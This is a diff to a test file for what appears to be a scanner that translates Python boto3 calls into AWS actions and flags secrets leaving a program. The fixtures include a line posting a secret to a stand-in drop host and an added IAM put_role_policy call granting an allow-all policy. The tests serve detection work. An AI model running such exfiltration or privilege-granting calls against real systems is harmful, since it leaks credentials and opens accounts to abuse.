@@ -27,6 +27,11 @@ for (const [situation, code, expected] of [
     "import boto3\nboto3.client('ssm').send_command(Parameters={'commands': ['say a']})",
     ['ssm send-command --parameters {"commands":["say a"]}'],
   ],
+  [
+    'a document that the code makes',
+    "import boto3, json\nboto3.client('iam').put_role_policy(PolicyDocument=json.dumps({'Statement': [{'Effect': 'Allow'}]}))",
+    ['iam put-role-policy --policy-document {"Statement":[{"Effect":"Allow"}]}'],
+  ],
   ['another library', "import other\nother.client('ec2').delete_snapshot(SnapshotId='a')", []],
   ['what is no call of the service', "import boto3\nboto3.client('s3').can_paginate('x')", []],
 ] as const) {
@@ -48,6 +53,11 @@ const SECRET =
 test('a secret that is all of a body leaves; one inside of it signs in', () => {
   assert.ok(sent(`${SECRET}requests.post('https://drop.example.net/', data=s)`));
   assert.ok(!sent(`${SECRET}requests.post('https://shop.example.net/login', json={'user': 'a', 'password': s})`));
+  assert.ok(
+    !sent(
+      `${SECRET}import json\nrequests.post('https://shop.example.net/login', data=json.dumps({'user': 'a', 'password': s}))`,
+    ),
+  );
 });
 
 test('credentials of a session leave in whatever they are put', () => {
